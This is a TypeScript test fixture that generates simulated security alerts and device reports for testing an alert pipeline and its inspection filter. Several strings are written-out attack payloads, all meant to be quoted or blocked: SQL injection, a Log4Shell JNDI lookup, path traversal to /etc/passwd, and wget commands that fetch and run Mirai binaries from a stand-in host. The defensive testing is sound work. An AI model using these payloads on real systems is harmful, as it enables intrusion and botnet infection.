/** What simulated publishers send. `sequence` counts per client from 1, so that a gap is a loss. */
export interface SimulatedAlert {
  readonly id: string;
  readonly client: string;
  readonly sequence: number;
  /** Milliseconds since 1970 with fractions, when it was handed to the upstream broker. */
  readonly sentAt: number;
  readonly severity: string;
  readonly message: string;
}

const severities = ["low", "medium", "high", "critical"];
const plainTexts = [
  "Repeated failed logins from an unfamiliar network were stopped by the gateway",
  "The certificate of the management interface expires in nine days",
  "Outbound traffic is four times its usual volume for this hour",
  "A new administrator account was created outside the maintenance window",
  "Firmware 4.2.1 was rolled back to 4.1.7 after a failed self test",
];
/** Alerts may quote an attack: they are delivered, and tagged. */
const quotedAttacks = [
  "WAF blocked request: GET /index.php?id=1' UNION SELECT username,password FROM users--",
  "IDS match in User-Agent: ${jndi:ldap://198.51.100.7:1389/a}",
  "Blocked shell command: wget http://203.0.113.9/bins/mirai.arm7 -O /tmp/x; chmod +x /tmp/x",
  "Path traversal stopped: GET /cgi-bin/../../../../etc/passwd",
];
/** What a compromised device might report: must not get through. */
const attackReports = [
  { event: "config", command: "; wget http://203.0.113.9/bins/mirai.mips -O- | sh" },
  { event: "log", text: "${jndi:ldap://198.51.100.7:1389/a}" },
  { event: "query", filter: "1' UNION SELECT secret FROM devices--" },
];

const pick = <T>(items: readonly T[], n: number): T => items[n % items.length] as T;

/**
 * The n-th alert of a run. `run` sets runs apart, since a repeated id would be a duplicate.
 *
 * @param quoteEvery every how many alerts one quotes an attack; 0 for none.
 */
export function simulatedAlert(
  run: string,
  n: number,
  options: { client: string; sequence: number; sentAt: number; quoteEvery: number },
): SimulatedAlert {
  const { client, sequence, sentAt, quoteEvery } = options;
  const quotes = quoteEvery > 0 && n % quoteEvery === quoteEvery - 1;
  return {
    id: `${run}-${n}`,
    client,
    sequence,
    sentAt,
    severity: pick(severities, n),
    message: pick(quotes ? quotedAttacks : plainTexts, n),
  };
}

/** Undefined for what is not one of ours. */
export function parseSimulatedAlert(payload: Uint8Array): SimulatedAlert | undefined {
  try {
    const value = JSON.parse(Buffer.from(payload).toString()) as SimulatedAlert;
    return typeof value.client === "string" && typeof value.sequence === "number"
      ? value
      : undefined;
  } catch {
    return undefined;
  }
}

/** The run of which an alert is. */
export const runOf = ({ id }: Pick<SimulatedAlert, "id">) => id.slice(0, id.lastIndexOf("-"));

/** The n-th report of the fleet, and whether inspection must stop it. */
export function simulatedReport(
  n: number,
  attackEvery: number,
): { payload: string; attack: boolean } {
  const attack = attackEvery > 0 && n % attackEvery === attackEvery - 1;
  const body = attack
    ? pick(attackReports, n)
    : { event: "heartbeat", uptime: 3600 + n, temperature: 41, firmware: "4.2.1" };
  return { payload: JSON.stringify({ report: n, ...body }), attack };
}

export const simulatedClient = (n: number) => `device-${String(n).padStart(6, "0")}`;
